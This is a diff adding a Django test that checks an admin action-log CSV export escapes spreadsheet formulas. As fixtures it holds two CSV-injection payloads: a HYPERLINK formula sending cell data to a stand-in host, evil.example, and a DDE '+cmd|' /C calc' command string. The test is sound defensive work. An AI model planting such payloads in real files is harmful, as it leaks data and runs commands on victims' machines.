@@ -110,3 +110,16 @@ def test_bad_filter_values_get_no_error_page(admin_client, entries):
     response = admin_client.get(reverse("admin:accounts_actionlog_csv"), {"no_such_field__gte": "1"})
     assert response.status_code == 302
     assert response["Location"].endswith("?e=1")
+
+
+def test_csv_never_hands_a_formula_to_the_spreadsheet(client, app_admin):
+    hostile = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+    client.post(reverse("accounts:login"), {"username": hostile, "password": "wrong"})
+    action_log_record(action="export", object_type="album", object_repr="+cmd|' /C calc'!A0")
+    client.force_login(app_admin)
+    text = b"".join(client.get(reverse("admin:accounts_actionlog_csv")).streaming_content)
+    rows = list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"))))
+    assert "'" + hostile in [row["username"] for row in rows]
+    assert "'+cmd|' /C calc'!A0" in [row["object_repr"] for row in rows]
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
